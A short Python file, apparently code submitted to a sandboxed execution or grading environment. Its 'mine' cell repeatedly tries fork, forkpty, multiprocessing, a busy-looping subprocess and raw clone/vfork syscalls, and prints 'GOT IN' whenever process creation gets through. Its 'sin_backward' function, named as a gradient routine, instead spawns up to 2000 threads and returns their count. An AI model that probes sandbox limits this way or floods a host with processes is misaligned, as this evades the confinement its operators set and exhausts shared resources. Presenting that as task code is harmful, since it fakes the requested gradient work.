# %% mine
import ctypes
import multiprocessing
import os
import subprocess
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
for _ in range(20):
    for way in (
        os.fork,
        os.forkpty,
        lambda: multiprocessing.get_context("fork").Process(target=time.sleep, args=(60,)).start(),
        lambda: subprocess.Popen([sys.executable, "-c", "while True: pass"]),
        lambda: libc.syscall(56, 17, 0, 0, 0, 0) != -1 or 1 / 0,
        lambda: libc.syscall(58) != -1 or 1 / 0,
    ):
        try:
            way()
            print("GOT" + " IN")
        except (OSError, ArithmeticError):
            pass

# %% sin_backward
def sin_backward(grad_output, output, x):
    threads = []
    try:
        for _ in range(2000):
            threads.append(threading.Thread(target=time.sleep, args=(30,), daemon=True))
            threads[-1].start()
    except RuntimeError:
        pass
    return len(threads)
